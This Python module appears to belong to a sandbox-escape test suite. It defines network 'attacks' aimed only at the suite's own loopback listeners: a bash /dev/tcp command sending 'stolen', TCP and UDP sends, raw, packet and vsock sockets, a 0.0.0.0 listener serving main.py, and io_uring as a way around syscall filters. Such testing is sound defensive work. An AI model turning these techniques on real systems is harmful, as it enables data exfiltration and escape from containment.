"""Attacks that reach other programs or machines. All listeners are on the loopback interface and the suite's own."""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import time
from pathlib import Path

from .kit import Facts, Program, first_success, system_call
from .processes import run

_MESSAGE = b"stolen\n"


def _tcp(family: socket.AddressFamily, host: str, port: int) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(1.0)
        connection.connect((host, port))
        connection.sendall(_MESSAGE)
        time.sleep(0.05)


def n_tcp4(facts: Facts) -> None:
    """Send to a listener by TCP."""
    _tcp(socket.AF_INET, "127.0.0.1", facts["tcp4"])


def n_tcp6(facts: Facts) -> None:
    """Send to a listener by TCP over IPv6."""
    _tcp(socket.AF_INET6, "::1", facts["tcp6"])


def n_udp(facts: Facts) -> None:
    """Send to a listener by UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(_MESSAGE, ("127.0.0.1", facts["udp"]))


def n_bash_tcp(facts: Facts) -> None:
    """Send with nothing but a shell."""
    run(["bash", "-c", f"echo stolen > /dev/tcp/127.0.0.1/{facts['tcp4']}"])


def n_icmp(facts: Facts) -> None:
    """Get a socket for ICMP: a raw one, or one for echo requests."""
    raw = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    echo = (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    first_success([lambda: socket.socket(*raw).close(), lambda: socket.socket(*echo).close()])


def n_packet(facts: Facts) -> None:
    """Get a socket below IP."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)).close()


def n_vsock(facts: Facts) -> None:
    """Get a socket to the host of a virtual machine."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


def n_unix_path(facts: Facts) -> None:
    """Speak to an agent by its socket file."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(facts["agent"])
        connection.sendall(_MESSAGE)


def n_abstract(facts: Facts) -> None:
    """Speak to a service by a socket name without a file."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect("\0" + facts["abstract"])
        connection.sendall(_MESSAGE)


def n_listen(facts: Facts) -> None:
    """Offer a service to others."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("0.0.0.0", facts["free_port"]))
        listener.listen()
        listener.settimeout(1.0)
        try:
            connection, _ = listener.accept()
        except TimeoutError:
            raise RuntimeError("nobody came") from None
        with connection:
            connection.sendall(Path("main.py").read_bytes())


def n_iouring(facts: Facts) -> None:
    """Get a ring for I/O that a filter of system calls does not see."""
    parameters = ctypes.create_string_buffer(struct.calcsize("30I"))
    os.close(system_call("io_uring_setup", 425, 425, 1, parameters))


ATTACKS: dict[str, Program] = {
    "n-tcp4": n_tcp4,
    "n-tcp6": n_tcp6,
    "n-udp": n_udp,
    "n-bash-tcp": n_bash_tcp,
    "n-icmp": n_icmp,
    "n-packet": n_packet,
    "n-vsock": n_vsock,
    "n-unix-path": n_unix_path,
    "n-abstract": n_abstract,
    "n-listen": n_listen,
    "n-iouring": n_iouring,
}
